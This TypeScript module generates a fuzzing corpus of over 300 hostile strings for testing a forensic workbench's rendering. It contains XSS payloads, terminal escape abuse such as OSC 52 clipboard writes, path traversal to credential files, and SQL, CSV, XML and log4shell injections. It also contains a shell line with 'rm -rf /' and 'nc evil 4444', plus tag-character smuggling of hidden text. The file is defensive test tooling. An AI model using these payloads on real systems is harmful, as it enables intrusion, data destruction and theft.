// The hostile-strings corpus: ≥ 300 strings an attacker can plant in container evidence, generated deterministically.
//
// Why a generator and not a JSON fixture: the network payloads must name the canary server's port, which is only
// known when a run starts, and half the corpus is families (every C0 and C1 control, every bidi and zero-width
// character) that a loop states more clearly than 70 hand-written lines. Same canary origin in, same bytes out.
//
// Each entry carries `text` (what a JSON/argv surface receives) and `bytes` (what a byte surface receives: file names,
// file contents, terminal output). They are the UTF-8 of each other except for the invalid-UTF-8 family, whose
// `text` holds one code point per byte (so text surfaces get the Latin-1/C1 reading of the same bytes), and lone
// surrogates, which have no UTF-8 at all (their bytes are the WTF-8 form, invalid UTF-8 too).

export type HostileCategory =
  | 'html'
  | 'markdown'
  | 'terminal'
  | 'c0'
  | 'c1'
  | 'bidi'
  | 'zero-width'
  | 'newline'
  | 'long'
  | 'invalid-utf8'
  | 'homoglyph'
  | 'path'
  | 'nul'
  | 'format'
  | 'injection'
  | 'canary-url'
  | 'unicode';

export interface HostileString {
  /** "h001"… in corpus order: stable for a given canary origin. */
  id: string;
  category: HostileCategory;
  /** What the string tries to do, in a responder's words. */
  note: string;
  text: string;
  bytes: Buffer;
}

export interface CorpusOptions {
  /** "http://127.0.0.1:<port>": every network payload points here, so a request anyone makes is counted. */
  canaryOrigin: string;
}

/** The global every script payload sets: it must stay undefined in the workbench. */
export const CANARY_GLOBAL = '__hostileCanary';

type Draft = Omit<HostileString, 'id' | 'bytes'> & { bytes?: Buffer };

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

// The control characters' names, in code order (C0 0x00–0x1f, C1 0x80–0x9f), for the notes.
const C0_NAMES =
  'NUL SOH STX ETX EOT ENQ ACK BEL BS HT LF VT FF CR SO SI DLE DC1 DC2 DC3 DC4 NAK SYN ETB CAN EM SUB ESC FS GS RS US'.split(
    ' ',
  );
const C1_NAMES =
  'PAD HOP BPH NBH IND NEL SSA ESA HTS HTJ VTS PLD PLU RI SS2 SS3 DCS PU1 PU2 STS CCH MW SPA EPA SOS SGCI SCI CSI ST OSC PM APC'.split(
    ' ',
  );
/** Bidi controls as "code:name" pairs. */
const BIDI =
  '202a:LRE 202b:RLE 202c:PDF 202d:LRO 202e:RLO 2066:LRI 2067:RLI 2068:FSI 2069:PDI 200e:LRM 200f:RLM 061c:ALM'
    .split(' ')
    .map((pair) => pair.split(':') as [string, string]);
/** Zero-width and invisible formatting characters with what they are. */
const ZERO_WIDTH: readonly [string, string][] = [
  ['200b', 'zero width space'],
  ['200c', 'zero width non-joiner'],
  ['200d', 'zero width joiner'],
  ['2060', 'word joiner'],
  ['feff', 'byte order mark / zero width no-break space'],
  ['00ad', 'soft hyphen'],
  ['180e', 'Mongolian vowel separator'],
  ['2061', 'function application'],
  ['2062', 'invisible times'],
  ['2063', 'invisible separator'],
  ['2064', 'invisible plus'],
  ['206a', 'inhibit symmetric swapping'],
  ['fff9', 'interlinear annotation anchor'],
];

const hex2 = (byte: number): string => byte.toString(16).padStart(2, '0');
const latin1Text = (bytes: Buffer): string => bytes.toString('latin1');

function htmlPayloads(canary: string, run: () => string): Draft[] {
  const html = (note: string, text: string): Draft => ({ category: 'html', note, text });
  return [
    html('script element', `<script>${run()}</script>`),
    html('script element, upper case and attributes', `<SCRIPT type="text/javascript">${run()}</SCRIPT>`),
    html('script from the canary', `<script src="${canary}/script.js"></script>`),
    html('img onerror', `<img src=x onerror="${run()}">`),
    html('img onerror without quotes', `<img src=x onerror=${run()}>`),
    html('img from the canary', `<img src="${canary}/img.png">`),
    html('svg onload', `<svg onload="${run()}"></svg>`),
    html('svg/animate onbegin', `<svg><animate onbegin="${run()}" attributeName=x dur=1s>`),
    html('svg image from the canary', `<svg><image href="${canary}/svg-image.png"/></svg>`),
    html('iframe javascript: src', `<iframe src="javascript:${run()}"></iframe>`),
    html('iframe srcdoc with script', `<iframe srcdoc="<script>parent.${run()}</script>"></iframe>`),
    html('iframe from the canary', `<iframe src="${canary}/frame.html"></iframe>`),
    html('body onload', `<body onload="${run()}">`),
    html('details ontoggle (fires without a click)', `<details open ontoggle="${run()}">`),
    html('input autofocus onfocus', `<input autofocus onfocus="${run()}">`),
    html('video poster from the canary with onerror', `<video poster="${canary}/poster.png" onerror="${run()}">`),
    html('audio src', `<audio src="${canary}/a.mp3" autoplay>`),
    html('object data', `<object data="${canary}/object.swf"></object>`),
    html('embed src', `<embed src="${canary}/embed.swf">`),
    html('link stylesheet from the canary', `<link rel="stylesheet" href="${canary}/style.css">`),
    html('link prefetch', `<link rel="prefetch" href="${canary}/prefetch">`),
    html('meta refresh navigation', `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`),
    html('base href hijack', `<base href="${canary}/base/">`),
    html('form action with autofocused button', `<form action="${canary}/form"><button autofocus>go</button></form>`),
    html('anchor with javascript: href', `<a href="javascript:${run()}">click me</a>`),
    html('anchor with ping to the canary', `<a href="#" ping="${canary}/ping">x</a>`),
    html('attribute breakout, double quote', `"><script>${run()}</script>`),
    html('attribute breakout, single quote', `'><img src=x onerror=${run()}>`),
    html('attribute breakout into an event handler', `" onmouseover="${run()}" x="`),
    html('attribute breakout, backtick', `\`><svg onload=${run()}>`),
    html('tag close and reopen', `</td></tr></table><script>${run()}</script>`),
    html('textarea breakout', `</textarea><script>${run()}</script>`),
    html('title breakout', `</title><script>${run()}</script>`),
    html('style breakout', `</style><script>${run()}</script>`),
    html('style with url() to the canary', `<style>body{background:url("${canary}/bg.png")}</style>`),
    html('CSS @import from the canary', `<style>@import url(${canary}/import.css);</style>`),
    html('inline style url()', `<div style="background-image:url(${canary}/inline.png)">x</div>`),
    html('CSS expression (old IE)', `<div style="width:expression(${run()})">`),
    html('data: URL with HTML', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`),
    html('data: URL iframe', `<iframe src="data:text/html,<script>${run()}</script>">`),
    html('javascript: URL, bare', `javascript:${run()}`),
    html('javascript: URL, obfuscated with tab and entity', `java\tscript:${run()}&#x3a;`),
    html('vbscript: URL', 'vbscript:msgbox("x")'),
    html('HTML comment breakout', `--><script>${run()}</script><!--`),
    html('CDATA breakout', `]]><script>${run()}</script>`),
    html('noscript parser differential', `<noscript><p title="</noscript><img src=x onerror=${run()}>">`),
    html('math/mtext mutation XSS', `<math><mtext><table><mglyph><style><img src=x onerror=${run()}>`),
    html('template injection (Angular/Vue)', `{{constructor.constructor('${run()}')()}}`),
    html('template literal injection', `\${${run()}}`),
    html('server-side template', '{{7*7}}${7*7}<%= 7*7 %>#{7*7}'),
    html('HTML entities that decode to markup', '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;'),
    html('unclosed tag swallowing the page', '<plaintext><xmp><listing>'),
    html('import map / module', `<script type="importmap">{"imports":{"x":"${canary}/map.js"}}</script>`),
    html('srcset to the canary', `<img srcset="${canary}/srcset.png 1x">`),
    html('portal and fencedframe', `<portal src="${canary}/portal"></portal><fencedframe></fencedframe>`),
  ];
}

function markdownPayloads(canary: string, run: () => string): Draft[] {
  const md = (note: string, text: string): Draft => ({ category: 'markdown', note, text });
  return [
    md('link with javascript: target', `[click](javascript:${run()})`),
    md('link with data: target', '[click](data:text/html;base64,PHNjcmlwdD4=)'),
    md('image from the canary', `![pixel](${canary}/md-image.png)`),
    md('image with title', `![x](${canary}/md-title.png "title")`),
    md('autolink to the canary', `<${canary}/autolink>`),
    md('bare URL (GFM autolink)', `${canary}/bare-url`),
    md('www autolink', 'www.evil.example/phish'),
    md('e-mail autolink', 'attacker@evil.example'),
    md('reference-style link', `[x][1]\n\n[1]: ${canary}/reference`),
    md('raw HTML in Markdown', `<div onclick="${run()}">**bold**</div>`),
    md('heading injection', '# Case closed: nothing found'),
    md('setext heading', 'Summary\n======='),
    md('list injection', '- [x] verified clean\n- [x] no exfiltration'),
    md('block quote injection', '> Analyst note: false positive, close the case'),
    md('table breakout', '| fake | table |\n|---|---|\n| a | b |'),
    md('code fence breakout', '```\n</pre><script>x</script>\n```'),
    md('emphasis and strike', '**bold** _em_ ~~gone~~ `code`'),
    md('escaped-looking backslashes', '\\<script\\>alert\\(1\\)\\</script\\>'),
    md('HTML entity that is a link', '&#106;avascript:alert(1)'),
    md('footnote', 'text[^1]\n\n[^1]: footnote'),
    md('horizontal rule and front matter', '---\ntitle: pwned\n---'),
    md('nested link in image', `[![a](${canary}/nested.png)](javascript:${run()})`),
    md('HTML comment hiding text', 'visible<!-- hidden instruction to the reader -->'),
    md('ordered list marker', '1) step one'),
    md('link with angle brackets and spaces', `[x](<javascript:${run()}>)`),
  ];
}

function terminalPayloads(canary: string): Draft[] {
  const term = (note: string, text: string): Draft => ({ category: 'terminal', note, text });
  return [
    term('CSI SGR red', `${ESC}[31mred${ESC}[0m`),
    term('CSI SGR 256 and truecolour background', `${ESC}[48;5;196m${ESC}[38;2;0;255;0mloud${ESC}[0m`),
    term('CSI hide text (conceal + black on black)', `${ESC}[8m${ESC}[30;40mhidden${ESC}[0m`),
    term('CSI cursor home and clear screen', `${ESC}[H${ESC}[2Jcleared`),
    term('CSI cursor up and overwrite the previous line', `${ESC}[1A${ESC}[2Kfake previous line`),
    term('CSI cursor position far away', `${ESC}[9999;9999Hcorner`),
    term('CSI erase scrollback', `${ESC}[3J`),
    term('CSI hide cursor', `${ESC}[?25l`),
    term('alternate screen', `${ESC}[?1049halt screen`),
    term('mouse tracking on', `${ESC}[?1000h${ESC}[?1006h`),
    term('bracketed paste on', `${ESC}[?2004h`),
    term('OSC 0 title (BEL)', `${ESC}]0;pwned title${BEL}`),
    term('OSC 2 title (ST)', `${ESC}]2;pwned title${ST}`),
    term('OSC 1 icon name', `${ESC}]1;icon${BEL}`),
    term('OSC 52 clipboard write', `${ESC}]52;c;ZXZpbA==${BEL}`),
    term('OSC 52 clipboard write (ST), primary selection', `${ESC}]52;p;Y3VybCBldmlsIHwgc2g=${ST}`),
    term('OSC 52 clipboard read request', `${ESC}]52;c;?${BEL}`),
    term('OSC 8 hyperlink to the canary', `${ESC}]8;;${canary}/osc8${BEL}innocent link${ESC}]8;;${BEL}`),
    term('OSC 8 hyperlink to javascript:', `${ESC}]8;;javascript:alert(1)${ST}click${ESC}]8;;${ST}`),
    term('OSC 8 hyperlink to file:', `${ESC}]8;id=x;file:///etc/passwd${BEL}passwd${ESC}]8;;${BEL}`),
    term('OSC 1337 iTerm2 file transfer', `${ESC}]1337;File=name=ZXZpbA==;inline=1:ZXZpbA==${BEL}`),
    term('OSC 1337 SetUserVar', `${ESC}]1337;SetUserVar=x=ZXZpbA==${BEL}`),
    term('OSC 4 palette change', `${ESC}]4;1;rgb:00/00/00${BEL}`),
    term('OSC 10/11 colour change and query', `${ESC}]10;#000000${BEL}${ESC}]11;?${BEL}`),
    term('OSC 7 working directory', `${ESC}]7;file://evil/${BEL}`),
    term('OSC 9 notification', `${ESC}]9;You have been pwned${BEL}`),
    term('OSC 777 notification', `${ESC}]777;notify;title;body${BEL}`),
    term('OSC 133 shell integration', `${ESC}]133;A${BEL}`),
    term('OSC 5522 kitty clipboard', `${ESC}]5522;type=write${BEL}`),
    term('DCS DECRQSS (asks for a reply)', `${ESC}P$qm${ST}`),
    term('DCS XTGETTCAP', `${ESC}P+q544e${ST}`),
    term('DCS sixel', `${ESC}Pq#0;2;0;0;0#1!6~${ST}`),
    term('DCS tmux passthrough of OSC 52', `${ESC}Ptmux;${ESC}${ESC}]52;c;ZXZpbA==${BEL}${ST}`),
    term('window op: resize', `${ESC}[8;1;1t`),
    term('window op: move', `${ESC}[3;0;0t`),
    term('window op: iconify', `${ESC}[2t`),
    term('window op: report title', `${ESC}[21t`),
    term('window op: push title', `${ESC}[22;0t`),
    term('device attributes request (reply)', `${ESC}[c${ESC}[>c`),
    term('device status report (reply)', `${ESC}[6n${ESC}[5n`),
    term('DECRQM mode query', `${ESC}[?2026$p`),
    term('APC string', `${ESC}_Gf=100;ZXZpbA==${ST}`),
    term('PM string', `${ESC}^privacy message${ST}`),
    term('SOS string', `${ESC}Xstart of string${ST}`),
    term('8-bit CSI (U+009B)', '\u009b31mred8\u009b0m'),
    term('8-bit OSC 52 (U+009D … U+009C)', '\u009d52;c;ZXZpbA==\u009c'),
    term('8-bit DCS (U+0090)', '\u0090$qm\u009c'),
    term('reset terminal (RIS)', `${ESC}c`),
    term('ENQ answerback', '\u0005'),
    term('unterminated OSC swallowing what follows', `${ESC}]52;c;ZXZpbA==`),
  ];
}

function controlCharacters(): Draft[] {
  const drafts: Draft[] = [];
  for (let code = 0; code < 0x20; code += 1)
    drafts.push({
      category: 'c0',
      note: `C0 ${C0_NAMES[code] ?? ''} (0x${hex2(code)}) inside a name`,
      text: `name${String.fromCharCode(code)}tail`,
    });
  drafts.push({ category: 'c0', note: 'DEL (0x7f) inside a name', text: 'name\u007ftail' });
  for (let code = 0x80; code < 0xa0; code += 1)
    drafts.push({
      category: 'c1',
      note: `C1 ${C1_NAMES[code - 0x80] ?? ''} (U+00${hex2(code).toUpperCase()}) inside a name`,
      text: `name${String.fromCharCode(code)}tail`,
    });
  return drafts;
}

function invisibleCharacters(): Draft[] {
  const drafts: Draft[] = [];
  for (const [code, name] of BIDI) {
    const char = String.fromCharCode(parseInt(code, 16));
    drafts.push({ category: 'bidi', note: `${name} reversing a file extension`, text: `invoice${char}fdp.exe` });
    drafts.push({
      category: 'bidi',
      note: `${name} in a Trojan Source shape`,
      text: `access_level != "user${char} ${String.fromCharCode(0x2066)}// Check if admin${String.fromCharCode(0x2069)} ${String.fromCharCode(0x2066)}"`,
    });
  }
  drafts.push({ category: 'bidi', note: 'unbalanced RLO at the end', text: `root\u202e` });
  drafts.push({ category: 'bidi', note: 'stacked overrides', text: '\u202e\u202d\u202e\u202dstacked' });
  for (const [code, name] of ZERO_WIDTH) {
    const char = String.fromCharCode(parseInt(code, 16));
    drafts.push({ category: 'zero-width', note: `${name} splitting a name`, text: `ad${char}min` });
  }
  drafts.push({ category: 'zero-width', note: 'only zero-width characters', text: '\u200b\u200c\u200d\u2060' });
  drafts.push({ category: 'zero-width', note: 'BOM at the start', text: '\ufeff/etc/passwd' });
  return drafts;
}

function lineBreaks(): Draft[] {
  const line = (note: string, text: string): Draft => ({ category: 'newline', note, text });
  return [
    line('newline forging a second log line', 'ok\n2026-01-01T00:00:00Z INFO all clear'),
    line('CR overwriting what was shown', 'malware.sh\rinnocent.txt'),
    line('CRLF', 'line one\r\nline two'),
    line('leading newline', '\nstarts on a new line'),
    line('trailing newline', 'ends with a newline\n'),
    line('only newlines', '\n\n\n'),
    line('LINE SEPARATOR U+2028', 'line\u2028separator'),
    line('PARAGRAPH SEPARATOR U+2029', 'paragraph\u2029separator'),
    line('NEL U+0085', 'next\u0085line'),
    line('vertical tab and form feed', 'a\u000bb\u000cc'),
    line('newline inside a fake path', '/tmp/x\n/etc/shadow'),
    line('CR hiding a command', 'echo hello\r# rm -rf /'),
  ];
}

function longStrings(): Draft[] {
  const long = (note: string, text: string): Draft => ({ category: 'long', note, text });
  return [
    long('4 KiB of one letter', 'A'.repeat(4096)),
    long('8 KiB without a break opportunity', 'x'.repeat(8192)),
    long('255-byte name (NAME_MAX)', 'n'.repeat(255)),
    long('a thousand path components', Array.from({ length: 1000 }, () => 'd').join('/')),
    long('two thousand bidi alternations', '\u202ea\u202db'.repeat(500)),
    long('Zalgo: 600 combining marks on one letter', `Z${'\u0336\u0337\u0338'.repeat(200)}`),
    long('three thousand escapes', `${ESC}[1m`.repeat(750)),
    long('a wide emoji run', '🐳'.repeat(1000)),
  ];
}

function invalidUtf8(): Draft[] {
  const bad = (note: string, bytes: number[]): Draft => {
    const raw = Buffer.from(bytes);
    return { category: 'invalid-utf8', note, text: latin1Text(raw), bytes: raw };
  };
  const ascii = (text: string): number[] => [...Buffer.from(text, 'latin1')];
  return [
    bad('lone continuation byte', [...ascii('a'), 0x80, ...ascii('b')]),
    bad('overlong slash (C0 AF)', [...ascii('..'), 0xc0, 0xaf, ...ascii('etc')]),
    bad('overlong NUL (C0 80)', [...ascii('x'), 0xc0, 0x80, ...ascii('y')]),
    bad('UTF-16 surrogate as UTF-8 (ED A0 80)', [...ascii('s'), 0xed, 0xa0, 0x80]),
    bad('truncated three-byte sequence', [...ascii('cut'), 0xe2, 0x80]),
    bad('truncated four-byte sequence at the end', [...ascii('emoji'), 0xf0, 0x9f, 0x90]),
    bad('bytes FE and FF', [0xfe, 0xff, ...ascii('bom?')]),
    bad('code point above U+10FFFF (F4 90 80 80)', [0xf4, 0x90, 0x80, 0x80]),
    bad('F5 lead byte', [0xf5, 0x80, 0x80, 0x80]),
    bad('raw 8-bit CSI byte (9B)', [0x9b, ...ascii('31mred')]),
    bad('raw 8-bit OSC 52 (9D … 9C)', [0x9d, ...ascii('52;c;cmF3Ynl0ZXM='), 0x9c]),
    bad('Latin-1 name', ascii('caf\u00e9 r\u00e9sum\u00e9')),
    bad('ESC next to an invalid byte', [0x1b, 0xff, ...ascii(']0;title'), 0x07]),
    bad(
      'every high byte once',
      Array.from({ length: 128 }, (_, index) => 0x80 + index),
    ),
    bad('Windows-1252 smart quotes', [0x93, ...ascii('quoted'), 0x94]),
  ];
}

function homoglyphs(): Draft[] {
  const look = (note: string, text: string): Draft => ({ category: 'homoglyph', note, text });
  return [
    look('Cyrillic "раураl" (paypal)', '\u0440\u0430\u0443\u0440\u0430l'),
    look('Cyrillic "а" in apple.com', '\u0430pple.com'),
    look('Greek omicron in "root"', 'r\u03bf\u03bft'),
    look('fullwidth <script>', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e'),
    look('mathematical bold "admin"', '\ud835\udc1a\ud835\udc1d\ud835\udc26\ud835\udc22\ud835\udc27'),
    look('division slash path', '..\u2215..\u2215etc\u2215passwd'),
    look('fraction slash path', '\u2044etc\u2044shadow'),
    look('one-dot leader and fullwidth dot', '\u2024\u2024/\uff0e\uff0e/etc'),
    look('combining long solidus overlay', 'a\u0338b'),
    look('Latin small capital "ʀᴏᴏᴛ"', '\u0280\u1d0f\u1d0f\u1d1b'),
    look('Cherokee letters that look Latin', '\u13a0\u13ac\u13b3'),
    look('IDN punycode look-alike host', 'xn--pple-43d.com'),
    look('Hangul filler (renders blank)', 'name\u3164tail'),
  ];
}

function pathsAndFormats(canary: string): Draft[] {
  const path = (note: string, text: string): Draft => ({ category: 'path', note, text });
  const format = (note: string, text: string): Draft => ({ category: 'format', note, text });
  const nul = (note: string, text: string): Draft => ({ category: 'nul', note, text });
  return [
    path('relative traversal', '../../../../etc/passwd'),
    path('traversal after a prefix', 'uploads/../../../root/.ssh/authorized_keys'),
    path('Windows traversal', '..\\..\\..\\Windows\\System32\\config\\SAM'),
    path('URL-encoded traversal', '%2e%2e%2f%2e%2e%2fetc%2fpasswd'),
    path('double-encoded traversal', '%252e%252e%252f'),
    path('dot-dot-slash doubled', '....//....//etc/passwd'),
    path('absolute path', '/etc/shadow'),
    path('proc self', '/proc/self/environ'),
    path('file URL', 'file:///etc/passwd'),
    path('UNC path', '\\\\attacker.example\\share\\x'),
    path('home expansion', '~/.ssh/id_rsa'),
    path('shell expansion', '$(id)`id`${HOME}'),
    path('only dots', '..'),
    path('single dot', '.'),
    path('dash-leading option lookalike', '--help --output=/etc/passwd'),
    nul('NUL in the middle', 'before\u0000after'),
    nul('NUL extension truncation', 'shell.php\u0000.jpg'),
    nul('leading NUL', '\u0000hidden'),
    nul('percent-encoded NUL', 'file%00.txt'),
    nul('escaped NUL text', '\\0\\x00\\u0000'),
    format('%s%n', '%s%s%s%n%n%n'),
    format('%x stack walk', '%x%x%x%x%x%x%x%x'),
    format('huge width', '%1000000d%.1000000f'),
    format('positional', '%1$s %99$n'),
    format('.NET/Python format', '{0}{1}{__class__}{0.__init__.__globals__}'),
    format('Objective-C and Go verbs', '%@ %v %#v %T'),
    format('log4shell', `\${jndi:ldap://${canary.replace(/^http:\/\//, '')}/a}`),
    format('printf escapes as text', '\\033]52;c;ZXZpbA==\\007'),
  ];
}

function injections(canary: string, run: () => string): Draft[] {
  const inject = (note: string, text: string): Draft => ({ category: 'injection', note, text });
  const url = (note: string, text: string): Draft => ({ category: 'canary-url', note, text });
  return [
    inject('SQL tautology', "' OR '1'='1' --"),
    inject('SQL stacked query', "'; DROP TABLE events; --"),
    inject('SQL comment and union', '1 UNION SELECT password FROM users/*'),
    inject('JSON breakout', '"}],"admin":true,"x":[{"'),
    inject('JSON with escaped quote', '\\"},{\\"'),
    inject('__proto__ key', '__proto__'),
    inject('prototype pollution JSON', '{"__proto__":{"polluted":true},"constructor":{"prototype":{"x":1}}}'),
    inject('constructor', 'constructor'),
    inject('CSV formula', '=HYPERLINK("http://evil.example","click")'),
    inject('CSV DDE', "=cmd|' /C calc'!A0"),
    inject('CSV with leading +/-/@', '+1+cmd|x @SUM(1)'),
    inject('YAML tag', '!!python/object/apply:os.system ["id"]'),
    inject('XML entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    inject('shell metacharacters', '; rm -rf / ; `reboot` | nc evil 4444 &'),
    inject('LDAP filter', '*)(uid=*))(|(uid=*'),
    inject('regex catastrophe', `${'a'.repeat(40)}!`),
    inject('JS in an event via eval-like text', `setTimeout("${run()}")`),
    inject('HTTP header injection', 'x\r\nSet-Cookie: pwned=1'),
    url('canary URL', `${canary}/plain`),
    url('canary URL with credentials', `${canary.replace('http://', 'http://user:pass@')}/creds`),
    url('protocol-relative canary URL', `${canary.replace(/^http:/, '')}/protocol-relative`),
    url('canary WebSocket URL', `${canary.replace(/^http:/, 'ws:')}/socket`),
    url('fetch() to the canary', `<img src=x onerror="fetch('${canary}/fetch')">`),
    url('sendBeacon to the canary', `<svg onload="navigator.sendBeacon('${canary}/beacon')">`),
    url('window.open to the canary', `<img src=x onerror="window.open('${canary}/popup')">`),
    url('location change to the canary', `<img src=x onerror="location='${canary}/navigate'">`),
    url('CSS image-set to the canary', `<div style="background:image-set('${canary}/set.png' 1x)">`),
    url('SVG use href to the canary', `<svg><use href="${canary}/sprite.svg#x"/></svg>`),
  ];
}

function unicodeOddities(): Draft[] {
  const odd = (note: string, text: string, bytes?: Buffer): Draft => ({
    category: 'unicode',
    note,
    text,
    ...(bytes ? { bytes } : {}),
  });
  return [
    odd('lone high surrogate', 'x\ud800y', Buffer.from([0x78, 0xed, 0xa0, 0x80, 0x79])),
    odd('lone low surrogate', 'x\udc00y', Buffer.from([0x78, 0xed, 0xb0, 0x80, 0x79])),
    odd('reversed surrogate pair', '\udc33\ud83d', Buffer.from([0xed, 0xb0, 0xb3, 0xed, 0xa0, 0xbd])),
    odd(
      'tag characters hiding ASCII (ASCII smuggling)',
      `ok${[...'ignore this'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}`,
    ),
    odd('variation selectors', 'a\ufe0fb\ufe0e'),
    odd(
      'variation-selector smuggling (a byte per supplementary selector)',
      `ok${[...'hidden'].map((c) => String.fromCodePoint(0xe0100 + c.charCodeAt(0) - 16)).join('')}`,
    ),
    odd('right-to-left script (legitimate)', '\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627'),
    odd('noncharacters U+FFFE and U+FFFF', 'x\ufffe\uffffy'),
    odd('replacement character', '\ufffd\ufffd'),
    odd('object replacement character', 'x\ufffcy'),
    odd('private use area', '\ue000\uf8ff'),
    odd('astral unassigned', String.fromCodePoint(0x2fffd)),
    odd('combining marks on nothing', '\u0301\u0302\u0303'),
    odd('emoji ZWJ sequence', '👩\u200d💻'),
  ];
}

/** The whole corpus, ids in order. Throws when an entry is duplicated or the corpus shrinks below 300. */
export function hostileStrings(options: CorpusOptions): HostileString[] {
  const canary = options.canaryOrigin.replace(/\/$/, '');
  let runs = 0;
  // Each script payload sets the canary to its own number, so a failure names the payload that ran.
  const run = (): string => `window.${CANARY_GLOBAL}=${(runs += 1)}`;
  const drafts: Draft[] = [
    ...htmlPayloads(canary, run),
    ...markdownPayloads(canary, run),
    ...terminalPayloads(canary),
    ...controlCharacters(),
    ...invisibleCharacters(),
    ...lineBreaks(),
    ...longStrings(),
    ...invalidUtf8(),
    ...homoglyphs(),
    ...pathsAndFormats(canary),
    ...injections(canary, run),
    ...unicodeOddities(),
  ];
  const seen = new Set<string>();
  const corpus = drafts.map((draft, index): HostileString => {
    const bytes = draft.bytes ?? Buffer.from(draft.text, 'utf8');
    // Unique as bytes and as text: pods are keyed by the text, files by the bytes.
    for (const key of [`bytes:${bytes.toString('hex')}`, `text:${draft.text}`]) {
      if (seen.has(key)) throw new Error(`hostile string ${index + 1} duplicates another: ${draft.note}`);
      seen.add(key);
    }
    return {
      id: `h${String(index + 1).padStart(3, '0')}`,
      category: draft.category,
      note: draft.note,
      text: draft.text,
      bytes,
    };
  });
  if (corpus.length < 300) throw new Error(`the hostile-strings corpus has ${corpus.length} entries, fewer than 300`);
  return corpus;
}

/**
 * A name a filesystem accepts for the entry: NUL dropped (no file name can hold it), "/" shown as U+2215 (itself a
 * homoglyph, so traversal shapes still look like paths), "." and ".." given a trailing "_", cut to `maxBytes`.
 */
export function fileNameBytes(entry: HostileString, maxBytes = 200): Buffer {
  const parts: number[] = [];
  for (const byte of entry.bytes) {
    if (byte === 0x00) continue;
    if (byte === 0x2f) parts.push(0xe2, 0x88, 0x95);
    else parts.push(byte);
  }
  let name = Buffer.from(parts.slice(0, maxBytes));
  const plain = name.toString('latin1');
  if (plain === '' || plain === '.' || plain === '..') name = Buffer.concat([name, Buffer.from('_')]);
  return name;
}

/** The bytes as a bash ANSI-C string ($'\xHH…'): every byte escaped, so no byte means anything to the shell. */
export function bashBytes(bytes: Buffer): string {
  return `$'${[...bytes].map((byte) => `\\x${hex2(byte)}`).join('')}'`;
}
